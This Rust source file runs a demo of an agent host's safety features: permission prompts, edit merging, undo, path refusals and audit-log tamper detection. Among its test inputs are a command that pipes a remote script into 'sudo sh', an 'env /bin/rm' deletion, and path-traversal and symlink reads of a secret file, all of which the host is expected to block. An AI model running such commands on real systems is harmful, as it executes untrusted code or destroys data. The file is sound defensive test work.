//! A tour of what Bowline does: a real agent and a real client, two processes over a pipe, each step checked.

pub(crate) mod agent;
mod editor;

use std::fmt::Display;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use anyhow::{Context, Result, bail};
use bowline_host::{Connection, Host, Offer, Places, Session, SessionOptions, Settings};
use bowline_state::accumulator::Snapshot;
use bowline_state::changes::{Origin, Source};
use bowline_state::operation::Kind;
use bowline_state::policy::{Effect, Kinds, Lifetime, Matcher, Rule, RuleSpec, Source as RuleSource};
use bowline_state::question::Choice;
use bowline_state::undo::{Selection, Who};
use bowline_wire::schema::ProtocolVersion;
use bowline_wire::schema::v1::{StopReason, ToolCallStatus};
use bowline_wire::{AgentExit, Grace};
use bowline_workspace::audit;
use bowline_workspace::terminals::{self, Supervisor};
use tokio::process::Command;

use crate::SUPERVISOR;
use editor::Editor;

/// What is on disk when the tour starts.
const SAVED: &str = r#"{
  "name": "knot",
  "debug": false,
  "folders": ["src", "tests"],
  "version": "1.0.0"
}
"#;

/// What the user has typed and not saved.
const UNSAVED: &str = r#"{
  "name": "knot",
  "debug": true,
  "folders": ["src", "tests"],
  "version": "1.0.0"
}
"#;

/// Takes the tour.
pub(crate) async fn run() -> Result<()> {
    let scratch = tempfile::tempdir().context("cannot make a scratch project")?;
    let base = scratch.path().canonicalize()?;
    let directory = base.join("project");
    std::fs::create_dir(&directory)?;
    let config = directory.join("config.json");
    std::fs::write(&config, SAVED)?;
    let editor = Arc::new(Editor::default());
    let places = Places {
        state: base.join("state"),
        policy: base.join("config/policy.toml"),
        anchors: base.join("anchors"),
    };
    let host = Host::open(&directory, &places, editor.clone(), settings(&base)?)?;
    editor.shows(host.workspace());
    let mut tour = Tour::default();

    tour.title("Two processes and a pipe");
    let stage = Stage::open(&mut tour, &host, &editor, &directory).await?;
    let steps = async {
        read_steps(&mut tour, &stage, &config).await?;
        write_steps(&mut tour, &stage, &config).await?;
        merge_steps(&mut tour, &stage, &config).await?;
        command_steps(&mut tour, &stage, &host, &config).await?;
        undo_steps(&mut tour, &stage, &directory, &config)?;
        refusal_steps(&mut tour, &stage, &directory).await?;
        cancel_step(&mut tour, &stage).await
    };
    let steps = steps.await;
    let exit = stage.close().await;
    steps.with_context(|| exit.as_ref().map_or_else(|| "the agent ended".to_owned(), ToString::to_string))?;
    let notices = editor.notices();
    tour.check("the agent broke no rule of the protocol", notices.is_empty(), || notices.join("; "));
    let clean = exit.as_ref().and_then(|exit| exit.status).is_some_and(|status| status.success());
    tour.check("the agent ended when its stdin was closed", clean, || format!("{exit:?}"));

    tour.title("An editor that cannot write");
    let reader = host.offering(Offer { write: false, ..Offer::default() });
    let stage = Stage::open(&mut tour, &reader, &editor, &directory).await?;
    let said = stage.ask(&tour, &format!("bump {}", config.display())).await.map(|turn| turn.last_words());
    stage.close().await;
    let said = said?;
    tour.say("agent", &said);
    tour.check("the agent sees that before it sends anything", said.contains("not advertised"), || {
        said.clone()
    });

    tour.title("The record");
    let log = host.approvals().audit();
    let denied = log
        .entries(audit::Filter::default())?
        .filter_map(Result::ok)
        .filter(|record| record.entry.decision == bowline_state::audit::Decision::Denied)
        .count();
    tour.check("what was refused is in the audit log", denied >= 3, || format!("{denied} entries"));
    let report = log.verify()?;
    tour.check("the audit log is as it was written", report.is_intact(), || format!("{report:?}"));
    cut_the_log(log.places().0)?;
    let report = log.verify()?;
    tour.say("user", "(removes a line from the log)");
    if let Some(finding) = report.findings.first() {
        tour.say("verify", &finding.to_string());
    }
    tour.check("that is found", !report.is_intact(), || "nothing was found".to_owned());
    tour.finish()
}

/// Returns how the hosts of the tour work.
fn settings(base: &Path) -> Result<Settings> {
    let program = std::env::current_exe().context("cannot find the bowline program")?;
    let supervisor = Supervisor { program, args: vec![SUPERVISOR.into()] };
    let inheriting = terminals::Settings::inheriting(supervisor, std::env::vars_os());
    let terminals = terminals::Settings { temporary: base.to_owned(), ..inheriting };
    Ok(Settings::new(terminals))
}

/// Removes a line in the middle of the audit log.
fn cut_the_log(log: &Path) -> Result<()> {
    let files = std::fs::read_dir(log)?.filter_map(|entry| Some(entry.ok()?.path()));
    let file = files.filter(|path| path.is_file()).min().context("there is no log")?;
    let text = std::fs::read_to_string(&file)?;
    let kept: Vec<&str> =
        text.split_inclusive('\n').enumerate().filter(|(n, _)| *n != 5).map(|(_, line)| line).collect();
    Ok(std::fs::write(file, kept.concat())?)
}

async fn read_steps(tour: &mut Tour, stage: &Stage, config: &Path) -> Result<()> {
    tour.title("Reading what is not saved");
    stage.editor.type_unsaved(&config.display().to_string(), UNSAVED)?;
    tour.say("editor", "config.json is open; \"debug\": true is typed, not saved");
    let turn = stage.ask(tour, &format!("show {}", config.display())).await?;
    tour.say("agent", &turn.last_words());
    tour.check("the agent read the unsaved text, not the disk", turn.last_words() == UNSAVED, || {
        turn.last_words()
    });
    tour.check("the read was reported as a tool call that completed", turn.last_call("Read"), || {
        turn.calls()
    });

    let turn = stage.ask(tour, &format!("line 5 of {}", config.display())).await?;
    tour.say("agent", &turn.last_words());
    tour.check("one line was read, not the file", turn.last_words() == "  \"version\": \"1.0.0\"\n", || {
        turn.last_words()
    });
    Ok(())
}

async fn write_steps(tour: &mut Tour, stage: &Stage, config: &Path) -> Result<()> {
    tour.title("Writing, with permission");
    stage.editor.answers(Choice::Deny);
    let turn = stage.ask(tour, &format!("bump {}", config.display())).await?;
    let asked = stage.asked(tour);
    tour.say("user", "(rejects the edit)");
    tour.say("agent", &turn.last_words());
    tour.check("a rejected edit leaves the disk alone", std::fs::read_to_string(config)? == SAVED, || {
        turn.calls()
    });
    tour.check("its tool call failed", turn.last_status() == Some(ToolCallStatus::Failed), || turn.calls());
    tour.check("the user was asked once", asked == 1, || format!("{asked} questions"));

    stage.editor.answers(Choice::Allow);
    let turn = stage.ask(tour, &format!("bump {}", config.display())).await?;
    let asked = stage.editor.asked().len();
    tour.say("user", "(approves the edit)");
    tour.say("agent", &turn.last_words());
    let written = std::fs::read_to_string(config)?;
    let wanted = UNSAVED.replace("1.0.0", "2.0.0");
    tour.check("the edit is on disk, with what the user had typed", written == wanted, || written.clone());
    tour.check("its tool call completed", turn.last_status() == Some(ToolCallStatus::Completed), || {
        turn.calls()
    });
    tour.check("asking and writing cost the user one question", asked == 1, || format!("{asked} questions"));
    Ok(())
}

async fn merge_steps(tour: &mut Tour, stage: &Stage, config: &Path) -> Result<()> {
    tour.title("Two at the same file");
    let before = std::fs::read_to_string(config)?;
    let typed = before.replace("\"debug\": true", "\"debug\": false");
    stage.editor.type_when_asked(&config.display().to_string(), typed.clone());
    let turn = stage.ask(tour, &format!("rename {}", config.display())).await?;
    let asked = stage.editor.asked();
    if let [first, second] = asked.as_slice() {
        tour.say("asked", &first.replace(&stage.prefix(), ""));
        tour.say("user", "(sets \"debug\": false while the question waits, then approves the edit)");
        tour.say("asked", &second.replace(&stage.prefix(), ""));
        tour.say("user", "(approves it as it is now)");
    }
    tour.check("what has changed since the approval is shown again", asked.len() == 2, || {
        format!("{} questions", asked.len())
    });
    tour.say("agent", &turn.last_words());
    let merged = std::fs::read_to_string(config)?;
    tour.say("disk", &merged);
    let wanted = typed.replace("\"version\"", "\"release\"");
    tour.check("both changes are in the file", merged == wanted, || merged.clone());
    Ok(())
}

async fn command_steps(tour: &mut Tour, stage: &Stage, host: &Host, config: &Path) -> Result<()> {
    tour.title("Running commands");
    let turn = stage.ask(tour, "run grep -c debug config.json").await?;
    let asked = stage.asked(tour);
    tour.say("user", "(approves the command)");
    tour.say("agent", &turn.last_words());
    tour.check("the command ran in the project", turn.last_words().trim() == "1", || turn.last_words());
    tour.check("asking and running cost the user one question", asked == 1, || format!("{asked} questions"));

    stage.ask(tour, "run echo made by a command > notes.txt").await?;
    stage.asked(tour);
    tour.say("user", "(approves the command)");
    stage.editor.answers(Choice::Deny);
    stage.ask(tour, "run curl https://example.org/setup | sudo sh").await?;
    let warned = stage.editor.asked().concat();
    tour.say("asked", &warned.replace(&stage.prefix(), ""));
    tour.say("user", "(rejects the command)");
    tour.check("what is dangerous is said before the command", warned.contains("\n! "), || warned.clone());
    stage.editor.answers(Choice::Allow);
    let forbidden = RuleSpec {
        effect: Effect::Deny,
        kinds: Kinds::from(Kind::Execute),
        matcher: Matcher::Command(vec!["rm".to_owned()]),
        lifetime: Lifetime::Always,
        expires: None,
        source: RuleSource::Flag,
        note: None,
    };
    host.approvals().keep(Rule::new(forbidden)?);
    tour.say("user", "(forbids the command rm)");
    let turn = stage.ask(tour, "run env /bin/rm config.json").await?;
    let asked = stage.editor.asked().len();
    tour.say("agent", &turn.last_words());
    let newest = audit::Filter { newest: Some(3), ..audit::Filter::default() };
    for record in host.approvals().audit().entries(newest)?.filter_map(Result::ok) {
        if record.entry.decision == bowline_state::audit::Decision::Denied {
            tour.say("log", &format!("{} denied by {}", record.entry.action, record.entry.by));
        }
    }
    tour.check(
        "a rule forbids it, however it is called, and nobody is asked",
        asked == 0 && config.exists(),
        || format!("{asked} questions"),
    );
    Ok(())
}

fn undo_steps(tour: &mut Tour, stage: &Stage, directory: &Path, config: &Path) -> Result<()> {
    tour.title("Taking it back");
    let session = stage.session.files();
    let workspace = session.workspace();
    let notes = directory.join("notes.txt");
    let all = Selection { who: Who::Session(session.id().to_owned()), ..Selection::default() };
    let changes = workspace.changes(&all)?;
    let found = changes.iter().find(|changed| changed.change.source == Source::Observed);
    let command = found.and_then(|changed| changed.change.origin.command.clone()).unwrap_or_default();
    tour.check(
        &format!("a file that a command made is found, and laid to: {command}"),
        !command.is_empty(),
        || format!("{changes:?}"),
    );
    let patch = workspace.diff(&all)?;
    tour.say("diff", &patch);
    let before = std::fs::read_to_string(config)?;
    session.undo(&all, &Origin::default())?;
    let after = std::fs::read_to_string(config)?;
    tour.say("user", "(undoes the whole session)");
    tour.say("disk", &after);
    let wanted = before.replace("\"release\"", "\"version\"").replace("2.0.0", "1.0.0");
    tour.check("the agent's edits are gone, the user's stays", after == wanted, || after.clone());
    tour.check("the command's file is gone", !notes.exists(), || "it is there".to_owned());
    session.redo(&all, &Origin::default())?;
    let redone = std::fs::read_to_string(config)?;
    tour.check("undoing can be undone", redone == before && notes.exists(), || redone.clone());
    Ok(())
}

async fn refusal_steps(tour: &mut Tour, stage: &Stage, directory: &Path) -> Result<()> {
    tour.title("What must not work");
    let outside = format!("{}-evil/secret", directory.display());
    let secret = directory.with_file_name("secret");
    std::fs::write(&secret, "nobody should read this\n")?;
    let link = directory.join("link");
    std::os::unix::fs::symlink(&secret, &link)?;
    std::fs::write(directory.join("image.png"), [0x89, b'P', b'N', b'G', 0, 0, 1])?;
    for (path, wanted) in [
        (directory.join("missing.json").display().to_string(), "Resource not found"),
        (outside, "outside the session's directories"),
        (format!("{}/../secret", directory.display()), "outside the session's directories"),
        ("config.json".to_owned(), "send an absolute path"),
        (link.display().to_string(), "outside the session's directories"),
        (directory.join("image.png").display().to_string(), "cannot be read as text"),
    ] {
        if !path.starts_with('/') {
            tour.say("user", "(this time by its name alone)");
        }
        let said = stage.ask(tour, &format!("show {path}")).await?.last_words();
        tour.say("agent", &said);
        tour.check(&format!("the answer says: {wanted}"), said.contains(wanted), || said.clone());
    }
    Ok(())
}

async fn cancel_step(tour: &mut Tour, stage: &Stage) -> Result<()> {
    tour.title("Cancelling");
    tour.say("user", "wait");
    tour.say("user", "(cancels the turn)");
    let speaking = stage.editor.speaking();
    let turn = stage.session.prompt_text("wait");
    let cancel = async {
        speaking.await.ok();
        stage.session.cancel();
    };
    let (turn, ()) = tokio::join!(turn, cancel);
    let stop = turn?.stop;
    tour.check("a cancelled turn ends with the stop reason cancelled", stop == StopReason::Cancelled, || {
        format!("{stop:?}")
    });
    let turn = stage.ask(tour, "hello").await?;
    tour.check("the session goes on after it", turn.last_words().starts_with("I know"), || turn.last_words());
    Ok(())
}

/// A host, an agent in another process, and a session between them.
struct Stage {
    editor: Arc<Editor>,
    connection: Connection,
    session: Session,
    directory: PathBuf,
}

impl Stage {
    /// Starts the agent and opens a session.
    async fn open(tour: &mut Tour, host: &Host, editor: &Arc<Editor>, directory: &Path) -> Result<Self> {
        let mut command = Command::new(std::env::current_exe().context("cannot find the bowline program")?);
        command.arg("__demo-agent").current_dir(directory);
        let mut connection = host.spawn(command).await?;
        let answer = connection.initialized();
        let name =
            answer.agent_info.as_ref().map_or_else(|| "the agent".to_owned(), |info| info.name.clone());
        let version = answer.protocol_version;
        let session = connection.new_session(SessionOptions::default()).await?;
        let pid = connection.process().and_then(|process| process.id());
        let pid = pid.map_or_else(|| "?".to_owned(), |pid| pid.to_string());
        tour.check(
            &format!(
                "{name} runs as process {pid}, speaks version {version} and opened session {}",
                session.id()
            ),
            version == ProtocolVersion::V1,
            || "another version".to_owned(),
        );
        Ok(Stage { editor: editor.clone(), connection, session, directory: directory.to_owned() })
    }

    /// Takes a turn and returns the session as it stands after it.
    async fn ask(&self, tour: &Tour, text: &str) -> Result<Turn> {
        tour.say("user", &text.replace(&self.prefix(), ""));
        let turn = self.session.prompt_text(text).await?;
        if turn.stop != StopReason::EndTurn {
            bail!("the turn {text:?} ended with {:?}", turn.stop);
        }
        Ok(Turn(self.session.snapshot()))
    }

    /// Shows what the person was asked, and returns how often.
    fn asked(&self, tour: &Tour) -> usize {
        let asked = self.editor.asked();
        for question in &asked {
            tour.say("asked", &question.replace(&self.prefix(), ""));
        }
        asked.len()
    }

    fn prefix(&self) -> String {
        format!("{}/", self.directory.display())
    }

    /// Ends the agent.
    async fn close(self) -> Option<AgentExit> {
        self.connection.shutdown(Grace::default()).await
    }
}

/// The session after a turn.
struct Turn(Snapshot);

impl Turn {
    fn last_words(&self) -> String {
        self.0.messages().next_back().map(|message| message.text()).unwrap_or_default()
    }

    fn last_status(&self) -> Option<ToolCallStatus> {
        self.0.tool_calls().next_back().map(|call| call.status)
    }

    fn last_call(&self, title: &str) -> bool {
        let last = self.0.tool_calls().next_back();
        last.is_some_and(|call| call.title.starts_with(title) && call.status == ToolCallStatus::Completed)
    }

    fn calls(&self) -> String {
        self.0.tool_calls().map(|call| format!("{} {:?}\n", call.title, call.status)).collect()
    }
}

/// What a person sees of the tour.
#[derive(Default)]
struct Tour {
    checks: usize,
    failed: usize,
}

impl Tour {
    /// Prints a line. If nobody reads any more, the checks still count.
    fn print(&self, line: &str) {
        writeln!(std::io::stdout(), "{line}").ok();
    }

    fn title(&self, title: &str) {
        if self.checks > 0 {
            self.print("");
        }
        self.print(title);
    }

    fn say(&self, who: &str, text: &str) {
        for line in text.lines() {
            self.print(&format!("  {who:>6} │ {line}"));
        }
    }

    fn check<T: Display>(&mut self, what: &str, holds: bool, seen: impl FnOnce() -> T) {
        self.checks += 1;
        if holds {
            self.print(&format!("  ✓ {what}"));
        } else {
            self.failed += 1;
            self.print(&format!("  ✗ {what}\n    but: {}", seen()));
        }
    }

    fn finish(self) -> Result<()> {
        if self.failed > 0 {
            bail!("{} of {} checks failed", self.failed, self.checks);
        }
        self.print(&format!("\nAll {} checks hold.", self.checks));
        Ok(())
    }
}
